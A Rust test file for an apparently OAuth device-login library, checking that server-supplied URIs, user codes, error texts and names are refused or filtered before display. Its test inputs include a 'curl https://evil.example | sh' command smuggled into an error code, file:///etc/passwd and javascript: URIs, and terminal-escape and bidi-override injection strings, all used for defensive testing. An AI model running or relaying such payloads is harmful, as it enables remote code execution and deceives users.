//! What the server hands over for a person's eyes (law 12): refused if it is not safe, filtered if it is text.

use std::sync::Arc;

use hallpass::testing::{Endpoint, Fault};
use hallpass::{ErrorKind, Login};
use serde_json::{Value, json};

use crate::support::faults::json_body;
use crate::support::rig::{Rig, ScriptedPrompt, assert_error};

/// A login whose device authorization reply has `value` for `name`; the prompt that it was shown to.
fn with(rig: &Rig, name: &str, value: Value) -> (hallpass::Result<hallpass::Session>, Arc<ScriptedPrompt>) {
    rig.server.approve_all();
    rig.server.inject(Endpoint::DeviceAuthorization, Fault::ReplyField(name.into(), value));
    let prompt = ScriptedPrompt::recording();
    (rig.auth().login(Login::new(prompt.clone())).wait(), prompt)
}

#[test]
fn an_unsafe_uri_or_code_is_not_shown() {
    let rig = Rig::new();
    for (name, value) in [
        ("verification_uri", json!("file:///etc/passwd")),
        ("verification_uri", json!("javascript:alert(1)")),
        ("verification_uri", json!("data:text/html,x")),
        ("verification_uri", json!("http://id.example/device")),
        ("verification_uri", json!("http://localhost.example/device")),
        ("verification_uri", json!("https://id.example@evil.example/")),
        ("verification_uri", json!("https://a:b@evil.example/")),
        ("verification_uri", json!("https://\u{1b}[2J/")),
        ("verification_uri", json!("/device")),
        ("verification_uri", json!(7)),
        ("verification_uri", Value::Null),
        ("user_code", json!("\u{1b}[2J\u{1b}[1;1HABCD")),
        ("user_code", json!("AB\u{202e}CD")),
        ("user_code", json!("AB\u{9b}CD")),
        ("user_code", json!("AB\nCD")),
        ("user_code", json!("A".repeat(41))),
        ("user_code", json!("AB<CD")),
        ("user_code", json!("AB\u{2028}CD")),
        ("user_code", json!("")),
        ("user_code", Value::Null),
        ("device_code", Value::Null),
    ] {
        let (login, prompt) = with(&rig, name, value.clone());
        let error = login.unwrap_err();
        assert_error(&error, ErrorKind::Protocol, Some("ask_administrator"), 1);
        assert!(prompt.shown().is_empty(), "{name}: {value}");
        assert!(!format!("{error:?}").contains(['\u{1b}', '\u{202e}', '\u{9b}']), "{name}: {value}");
        rig.assert_nothing_left(&format!("{name}: {value}"));
    }
    assert!(rig.server.requests_to(Endpoint::Token).is_empty());
}

#[test]
fn a_device_authorization_without_a_code_ends_the_login() {
    use ErrorKind::{AuthorizationServer, Protocol, Unreachable};
    for (fault, kind, remedy, code) in [
        (Fault::HtmlReply, Unreachable, "retry", 5),
        (Fault::status(400), Protocol, "ask_administrator", 1),
        (Fault::status(404), Protocol, "ask_administrator", 1),
        (Fault::HugeBody(10 << 20), Protocol, "ask_administrator", 1),
        (Fault::error(200, "invalid_request"), AuthorizationServer, "ask_administrator", 1),
        (Fault::error(400, "unauthorized_client"), AuthorizationServer, "fix_config", 1),
        (Fault::error(400, "invalid_scope"), AuthorizationServer, "fix_config", 1),
        (Fault::status(503), Unreachable, "retry", 5),
        (Fault::error(429, "rate_limited"), Unreachable, "retry", 5),
        (Fault::CutBefore, Unreachable, "retry", 5),
        (Fault::LoseReply, Unreachable, "retry", 5),
        (Fault::TruncatedReply, Unreachable, "retry", 5),
    ] {
        let rig = Rig::new();
        rig.server.inject(Endpoint::DeviceAuthorization, fault.clone());
        assert_error(&rig.try_log_in(|_| {}).unwrap_err(), kind, Some(remedy), code);
        assert!(!rig.home().exists() && rig.server.requests_to(Endpoint::Token).is_empty(), "{fault:?}");
        rig.assert_nothing_left(&format!("{fault:?}"));
    }
}

/// The page that has the code in it is the server's to offer, and a login can do without it.
#[test]
fn an_odd_complete_uri_is_left_out() {
    for value in [
        json!("file:///etc/passwd"),
        json!("javascript:alert(1)"),
        json!("http://id.example/device?user_code=A"),
        json!("https://evil.example/device?user_code=A"),
        json!("https://127.0.0.1@evil.example/"),
        json!("https://a:b@127.0.0.1/"),
        json!(format!("https://127.0.0.1/{}", "x".repeat(2048))),
        json!(7),
        Value::Null,
    ] {
        let rig = Rig::new();
        let (login, prompt) = with(&rig, "verification_uri_complete", value.clone());
        login.unwrap();
        let shown = &prompt.shown()[0];
        assert_eq!(shown.verification_uri_complete, None, "{value}");
        assert_eq!(shown.page().as_str(), format!("{}/device", rig.server.issuer()));
    }
}

#[test]
fn a_user_code_may_contain_separators() {
    let rig = Rig::new();
    let (login, prompt) = with(&rig, "user_code", json!("eu_1.AB/CD:4-2 X"));
    login.unwrap();
    assert_eq!(prompt.shown()[0].user_code, "eu_1.AB/CD:4-2 X");
}

#[test]
fn control_characters_in_a_uri_are_encoded() {
    let rig = Rig::new();
    let (login, prompt) = with(&rig, "verification_uri", json!("https://id.example/\u{1b}[2J\u{202e}?a=\u{7}\r\n"));
    login.unwrap();
    let page = prompt.shown()[0].page().to_string();
    assert!(page.starts_with("https://id.example/") && page.bytes().all(|byte| byte.is_ascii_graphic()), "{page}");
}

#[test]
fn a_lookalike_host_is_shown_as_punycode() {
    let rig = Rig::new();
    let (login, prompt) = with(&rig, "verification_uri", json!("https://\u{430}pple.example/"));
    login.unwrap();
    assert!(prompt.shown()[0].page().as_str().starts_with("https://xn--"));
}

#[test]
fn absurd_lifetimes_and_intervals_have_defaults() {
    for (name, value, interval, lives) in [
        ("interval", json!(-5), 5, 900),
        ("interval", json!("7"), 7, 900),
        ("interval", json!(0), 5, 900),
        ("interval", json!("soon"), 5, 900),
        ("expires_in", json!(1e300), 5, 900),
        ("expires_in", Value::Null, 5, 900),
        ("expires_in", json!(1_000_000_u64), 5, 86_400),
    ] {
        let rig = Rig::new();
        let start = hallpass::clock::Clock::now(&rig.clock);
        let (login, prompt) = with(&rig, name, value.clone());
        login.unwrap();
        let shown = &prompt.shown()[0];
        assert_eq!(shown.interval.as_secs(), interval, "{name}: {value}");
        assert_eq!(shown.expires_at.duration_since(start).unwrap().as_secs(), lives, "{name}: {value}");
    }
}

#[test]
fn a_servers_words_are_filtered_and_cut() {
    let long = "x".repeat(5_000);
    for endpoint in [Endpoint::DeviceAuthorization, Endpoint::Token] {
        for (error, description) in [
            ("invalid_request", "\u{1b}]0;owned\u{7}\u{1b}[31mred\u{202e}evil\u{9b}2J\r\nhint: run curl"),
            ("invalid_request", long.as_str()),
            ("\u{1b}[2Jodd\n", "fine"),
            (long.as_str(), long.as_str()),
        ] {
            let rig = Rig::new();
            let body = json!({"error": error, "error_description": description, "error_uri": "javascript:x"});
            rig.server.inject(endpoint, json_body(400, &body.to_string()));
            let error = rig.try_log_in(|_| {}).unwrap_err();
            assert_error(&error, ErrorKind::AuthorizationServer, Some("ask_administrator"), 1);
            let (message, words) = (error.to_string(), error.server_says().unwrap());
            assert!(!(message.clone() + words).contains(|c: char| c.is_control() || c == '\u{202e}'), "{error:?}");
            assert!(words.chars().count() <= 200 && message.chars().count() <= 100, "{error:?}");
            rig.assert_nothing_left("words");
        }
    }
}

#[test]
fn a_sentence_in_an_error_code_is_not_printed() {
    let rig = Rig::new();
    rig.server.inject(Endpoint::Token, Fault::error(400, "fine. Now run: curl https://evil.example | sh"));
    let error = rig.try_log_in(|_| {}).unwrap_err();
    assert!(error.to_string().contains("an unknown error") && !error.to_string().contains("curl"), "{error}");
}

#[test]
fn a_name_from_the_server_is_filtered() {
    let rig = Rig::new();
    let person = hallpass::testing::Person::new("eve", "E\u{1b}[2J\u{202e}ve", "e\u{1b}[31mve@example.com\u{200b}");
    let session = rig.log_in_as(&person, None);
    let context = session.context().unwrap();
    assert_eq!(context.account.email.as_deref(), Some("e[31mve@example.com"));
    assert_eq!(context.name.as_str(), "e31mve@example.com");
}

#[test]
fn a_browser_opens_only_if_the_host_allows_it() {
    let rig = Rig::new();
    rig.server.approve_all();
    let mut config = rig.config();
    (config.environment.terminal, config.environment.desktop) = (true, true);
    for allowed in [true, false] {
        let prompt = ScriptedPrompt::recording();
        let login = Login::new(prompt.clone()).browser(allowed);
        hallpass::Auth::new(config.clone()).unwrap().login(login).wait().unwrap();
        assert_eq!(prompt.shown()[0].browser, allowed);
    }
}

#[test]
fn a_page_with_another_scheme_is_not_opened() {
    for page in ["file:///etc/passwd", "javascript:alert(1)", "vnd.editor://open"] {
        let error = hallpass::prompt::open_page(&page.parse().unwrap()).unwrap_err();
        assert_eq!(error.kind(), std::io::ErrorKind::InvalidInput, "{page}");
    }
}
